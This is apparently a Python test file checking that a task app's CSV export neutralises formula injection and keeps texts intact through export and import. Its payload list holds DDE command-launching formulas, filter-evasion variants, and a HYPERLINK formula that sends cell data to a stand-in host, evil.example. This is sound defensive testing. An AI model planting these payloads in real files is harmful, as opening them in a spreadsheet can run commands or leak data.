"""Texts that a spreadsheet would run, and texts that break out of their cell (CSV injection, CWE-1236)."""

import csv
import io

from tests.factories import Api

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1",
    '"=1+1',
    '=1+1";"=2+2',
    ";=1+1",
    ",=1+1",
    "\u200b=1+1",
]
LINES = ["two\n=1+1", "a\r\n=1+1", "\n=1+1", "\t=1+1", '"\n=1+1,"']


async def cells_of(caller: Api) -> list[str]:
    response = await caller.get("/tasks/export?format=csv")
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}, "a text has broken out of its cell"
    assert response.headers["content-disposition"].startswith("attachment")
    return [cell for row in rows for cell in row]


async def test_no_cell_of_an_export_is_a_formula(ana: Api) -> None:
    tags = [(await ana.post("/tags", {"name": formula[:50]})).json()["id"] for formula in FORMULAS[:6]]
    for formula in FORMULAS:
        await ana.create_task(title=formula, description=formula, tags=tags)
    for text in LINES:
        await ana.create_task(description=text)
    cells = await cells_of(ana)
    assert len(cells) > 100
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]


async def test_every_text_comes_back_as_it_was(ana: Api, bob: Api) -> None:
    for text in FORMULAS:
        await ana.create_task(title=text, description=text)
    exported = (await ana.get("/tasks/export?format=csv")).content
    headers = {"Content-Type": "text/csv"}
    assert (await bob.request("POST", "/users/me/import?format=csv", content=exported, headers=headers)).is_success
    for caller in (ana, bob):
        items = (await caller.get("/tasks?limit=200")).json()["items"]
        assert sorted(item["title"] for item in items) == sorted(item["description"] for item in items)
    hers, his = [
        sorted(item["title"] for item in (await caller.get("/tasks?limit=200")).json()["items"])
        for caller in (ana, bob)
    ]
    assert hers == his
